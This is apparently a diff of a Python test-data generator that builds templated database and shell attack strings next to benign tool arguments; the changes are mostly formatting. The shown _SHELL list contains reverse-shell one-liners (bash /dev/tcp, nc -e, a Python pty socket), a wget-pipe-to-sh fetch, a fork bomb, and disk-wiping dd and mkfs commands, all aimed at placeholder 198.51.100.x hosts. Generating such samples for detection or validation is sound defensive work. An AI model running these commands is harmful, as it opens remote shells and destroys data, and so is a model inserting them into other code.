@@ -1,4 +1,7 @@
-"""Values that attack a database or a shell, and arguments that tools are honestly given. One rule: shapes are common, words are ours."""
+"""Values that attack a database or a shell, and arguments that tools are honestly given.
+
+One rule: the shapes are common knowledge, the words are ours.
+"""
 
 from collections.abc import Iterator, Sequence
 from random import Random
@@ -117,7 +120,7 @@ _SHELL = (
     "wget -qO- http://198.51.100.{n}/{w} | sh",
     "bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1",
     "nc -e /bin/sh 198.51.100.{n} 9001",
-    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.{n}\",9001));pty.spawn(\"/bin/sh\")'",
+    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.{n}",9001));pty.spawn("/bin/sh")\'',
     ":(){{ :|:& }};:",
     "dd if=/dev/zero of=/dev/sda bs=1M",
     "mkfs.ext4 /dev/sdb1",
@@ -196,7 +199,12 @@ def _filled(source: Random, template: str) -> str:
     """The template with words and numbers, each place its own."""
     pools = {"w": _WORDS, "t": _TABLES, "c": _COLUMNS}
     fields = {name: _Choices(source, pool) for name, pool in pools.items()}
-    return template.format(**fields, n=source.randint(1, 250), d=source.randint(2, 9), b64=some(source, 48, "ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789"))
+    return template.format(
+        **fields,
+        n=source.randint(1, 250),
+        d=source.randint(2, 9),
+        b64=some(source, 48, "ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789"),
+    )
 
 
 class _Choices:
